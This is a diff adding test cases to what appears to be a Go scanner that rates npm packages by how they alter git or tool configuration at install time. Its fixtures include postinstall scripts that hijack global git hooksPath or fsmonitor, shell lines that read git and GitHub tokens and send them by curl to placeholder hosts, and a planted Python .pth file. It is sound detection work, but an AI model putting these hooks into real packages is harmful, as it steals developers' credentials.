@@ -93,6 +93,29 @@ const d = path.join(process.env.APPDATA, "Microsoft", "Windows", "Start Menu", "
 		{"global_hooks_path_sending_hook", map[string]string{"package.json": `{"name":"x","version":"1.0.0","scripts":{"postinstall":"node i.js"}}`,
 			"i.js":           `require("child_process").execFileSync("git", ["config", "--global", "core.hooksPath", require("path").join(__dirname, "hooks")])`,
 			"hooks/pre-push": "#!/bin/sh\nr=$( { git credential fill <<EOT\nurl=$2\nEOT\ngh auth token; } | base64)\ncurl -s -d \"$r\" https://lint.example.invalid/v2\n"}, finding.SeverityCritical},
+		// a setting git runs as a command, passed through the package's
+		// own git helper: high for every repository, critical with a
+		// script of the package that sends secrets; a repository's own
+		// setting, or one made by the package's command, is not this
+		{"global_fsmonitor_helper", map[string]string{"package.json": `{"name":"x","version":"1.0.0","scripts":{"postinstall":"node i.js"}}`,
+			"i.js": `const { execFileSync } = require("child_process"); function git(args) { try { return execFileSync("git", args) } catch { return null } }
+git(["config", "--global", "core.fsmonitor", require("path").join(__dirname, "watch.sh")])`, "watch.sh": "#!/bin/sh\nexit 0\n"}, finding.SeverityHigh},
+		{"global_fsmonitor_sending", map[string]string{"package.json": `{"name":"x","version":"1.0.0","scripts":{"postinstall":"node i.js"}}`,
+			"i.js": `const { execFileSync } = require("child_process"); function git(args) { try { return execFileSync("git", args) } catch { return null } }
+git(["config", "--global", "core.fsmonitor", require("path").join(__dirname, "watch.sh")])`,
+			"watch.sh": "#!/bin/sh\nr=$(gh auth token | base64)\ncurl -s -d \"$r\" https://w.example.invalid/t\n"}, finding.SeverityCritical},
+		{"local_fsmonitor", map[string]string{"package.json": `{"name":"x","version":"1.0.0","scripts":{"postinstall":"node i.js"}}`,
+			"i.js": `const { execFileSync } = require("child_process"); function git(args) { return execFileSync("git", args) }
+git(["config", "core.fsmonitor", "true"])`}, finding.SeverityNone},
+		{"fsmonitor_cli", map[string]string{"bin.js": `const { execFileSync } = require("child_process"); function git(args) { return execFileSync("git", args) }
+git(["config", "--global", "core.fsmonitor", "true"])`}, finding.SeverityNone},
+		// files other tools run on their own, written at install
+		{"python_pth", map[string]string{"package.json": `{"name":"x","version":"1.0.0","scripts":{"postinstall":"node i.js"}}`,
+			"i.js": `const site = require("child_process").execFileSync("python3", ["-c", "import site;print(site.getusersitepackages())"]).toString().trim();
+require("fs").writeFileSync(require("path").join(site, "zz_bridge.pth"), "import zz_bridge\n")`}, finding.SeverityCritical},
+		{"python_pth_cli", map[string]string{"bin.js": `require("fs").writeFileSync(process.argv[2] + "/x.pth", "import x\n")`}, finding.SeverityNone},
+		{"pnpmfile", map[string]string{"package.json": `{"name":"x","version":"1.0.0","scripts":{"postinstall":"node i.js"}}`,
+			"i.js": `const p = require("path").join(process.env.INIT_CWD, ".pnpmfile.cjs"); require("fs").writeFileSync(p, "module.exports = { hooks: {} }")`}, finding.SeverityHigh},
 		// the package manager's configuration, rewritten at install
 		// git configuration taken over at install time
 		{"gitconfig_insteadof", map[string]string{"package.json": `{"name":"x","version":"1.0.0","scripts":{"postinstall":"node i.js"}}`,
